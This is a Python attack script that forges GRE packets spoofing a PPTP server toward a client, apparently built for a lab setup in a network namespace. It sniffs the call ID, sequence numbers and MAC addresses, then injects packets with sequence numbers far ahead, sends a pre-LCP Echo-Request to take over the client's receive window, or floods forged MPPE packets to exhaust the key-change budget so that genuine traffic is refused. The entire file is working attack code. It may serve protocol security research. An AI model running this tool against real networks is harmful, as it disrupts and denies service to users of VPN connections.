#!/usr/bin/env python3
"""Forge GRE packets towards the client, spoofing the PPTP server: run inside the
server's namespace. It learns the call's key, sequence number and the two MAC
addresses from one real server->client packet seen on the veth (s0), then writes
forgeries straight onto that veth, so they reach the client exactly as the
server's own packets do.

    forge_gre.py SERVER CLIENT COUNT

Sends one packet with the sequence number 2^30 ahead, then COUNT packets just
ahead of the real sequence with random MPPE headers (random coherency counts,
flushed bit or not) and random bodies. Prints what it sent as JSON.

    forge_gre.py SERVER CLIENT --before-lcp

Learns the client's call ID from its Outgoing-Call-Request (clear, on TCP 1723)
and at once sends a clear LCP Echo-Request to that call with the sequence
number 2^30, before the server's first LCP packet: the attack that made the
first frame own the client's receive window.

    forge_gre.py SERVER CLIENT --flood SECONDS

For SECONDS, follows the server's packets on the wire and sends forged MPPE
packets as fast as it can (about 15000 a second here), each with the next sequence number and the
coherency count one past the server's next (one key change ahead): the flood
that emptied the receiver's key-change budget, so that the genuine packet after
a natural loss was refused."""
import json
import os
import random
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
IFACE = "s0"


def csum(b):
    s = sum(struct.unpack(f"!{len(b) // 2}H", b))
    while s > 0xFFFF:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def ipv4_frames(sock, proto, src, dst, deadline):
    """(frame, what follows its IP header) for each IPv4 frame of this protocol
    from src to dst seen on the socket, until the deadline or a silence that
    lasts to it."""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.1, deadline - time.monotonic()))
        try:
            frame = sock.recv(65535)
        except socket.timeout:
            return
        if len(frame) < 14 + 20 or frame[12:14] != b"\x08\x00":
            continue
        ip = frame[14:]
        if ip[9] != proto or ip[12:16] != src or ip[16:20] != dst:
            continue
        yield frame, ip[(ip[0] & 0x0F) * 4:]


def sniff(sock, server, client, deadline):
    """One server->client GRE data packet with a sequence number."""
    for frame, gre in ipv4_frames(sock, 47, server, client, deadline):
        if len(gre) < 12:
            continue
        flags, proto, plen, call_id = struct.unpack("!HHHH", gre[:8])
        if proto != 0x880B or not flags & 0x1000:
            continue
        seq = struct.unpack("!I", gre[8:12])[0]
        return frame[0:6], frame[6:12], call_id, seq
    raise SystemExit("no GRE packet from the server to the client seen on " + IFACE)


def packet(dst_mac, src_mac, server, client, call_id, seq, ppp):
    gre = struct.pack("!HHHHI", 0x3001, 0x880B, len(ppp), call_id, seq & 0xFFFFFFFF) + ppp
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(gre), random.getrandbits(16), 0, 64, 47, 0, server, client)
    hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
    return dst_mac + src_mac + b"\x08\x00" + hdr + gre


def sniff_call_request(sock, server, client, deadline):
    """The MAC addresses for server->client frames, and the client's call ID
    from its Outgoing-Call-Request."""
    for frame, tcp in ipv4_frames(sock, 6, client, server, deadline):
        if len(tcp) < 20 or struct.unpack("!H", tcp[2:4])[0] != 1723:
            continue
        data = tcp[(tcp[12] >> 4) * 4:]
        at = data.find(b"\x1a\x2b\x3c\x4d")
        while at >= 4:
            if data[at + 4:at + 6] == b"\x00\x07" and len(data) >= at + 10:
                # Server->client frames go back the way this one came.
                return frame[6:12], frame[0:6], struct.unpack("!H", data[at + 8:at + 10])[0]
            at = data.find(b"\x1a\x2b\x3c\x4d", at + 1)
    raise SystemExit("no Outgoing-Call-Request from the client seen on " + IFACE)


def before_lcp(sock, server, client):
    dst_mac, src_mac, call_id = sniff_call_request(sock, server, client, time.monotonic() + 60)
    echo = b"\xff\x03\xc0\x21" + bytes([9, 0x42, 0, 8]) + os.urandom(4)
    for _ in range(3):
        sock.send(packet(dst_mac, src_mac, server, client, call_id, 1 << 30, echo))
    print(json.dumps({"call_id": call_id, "seq": 1 << 30, "sent": 3}), flush=True)


def flood(sock, server, client, seconds):
    import threading
    dst_mac, src_mac, call_id, seq = sniff(sock, server, client, time.monotonic() + 10)
    latest = {"seq": seq, "cc": None}
    end = time.monotonic() + seconds

    def follow():
        # A second socket: the sending one must not block on reads.
        s2 = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        s2.bind((IFACE, 0))
        for _, gre in ipv4_frames(s2, 47, server, client, end):
            if len(gre) < 12:
                continue
            flags = struct.unpack("!H", gre[:2])[0]
            if not flags & 0x1000:
                continue
            off = 16 if flags & 0x0080 else 12
            ppp = gre[off:]
            # With or without address/control and protocol field compression.
            if ppp[:2] == b"\xff\x03":
                ppp = ppp[2:]
            if ppp[:2] == b"\x00\xfd":
                ppp = ppp[2:]
            elif ppp[:1] == b"\xfd":
                ppp = ppp[1:]
            else:
                continue
            if len(ppp) >= 2:
                latest["seq"] = struct.unpack("!I", gre[8:12])[0]
                latest["cc"] = struct.unpack("!H", ppp[:2])[0] & 0x0FFF

    t = threading.Thread(target=follow, daemon=True)
    t.start()
    sent = 0
    while time.monotonic() < end:
        if latest["cc"] is None:
            time.sleep(0.01)
            continue
        cc = (latest["cc"] + 2) & 0x0FFF
        body = struct.pack("!H", 0x9000 | cc) + os.urandom(60)
        for _ in range(50):
            sock.send(packet(dst_mac, src_mac, server, client, call_id, latest["seq"] + 1, b"\xff\x03\x00\xfd" + body))
            sent += 1
        time.sleep(0.002)
    t.join()
    print(json.dumps({"call_id": call_id, "sent": sent, "seconds": seconds}), flush=True)


def mppe_garbage():
    cc = random.getrandbits(12)
    bits = 0x10 | (0x80 if random.random() < 0.5 else 0)
    body = os.urandom(random.randint(20, 200))
    return b"\xff\x03\x00\xfd" + struct.pack("!H", (bits << 8) | cc) + body


def main():
    server, client = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.bind((IFACE, 0))
    if sys.argv[3] == "--before-lcp":
        return before_lcp(sock, server, client)
    if sys.argv[3] == "--flood":
        return flood(sock, server, client, float(sys.argv[4]))
    count = int(sys.argv[3])
    dst_mac, src_mac, call_id, seq = sniff(sock, server, client, time.monotonic() + 10)
    sent = 0
    # Far ahead: committing it would make every real packet "late".
    sock.send(packet(dst_mac, src_mac, server, client, call_id, seq + (1 << 30), mppe_garbage()))
    sent += 1
    for i in range(count):
        sock.send(packet(dst_mac, src_mac, server, client, call_id, seq + 1 + i % 64, mppe_garbage()))
        sent += 1
        if i % 50 == 49:
            time.sleep(0.05)
    print(json.dumps({"call_id": call_id, "seq_seen": seq, "sent": sent}))


if __name__ == "__main__":
    main()
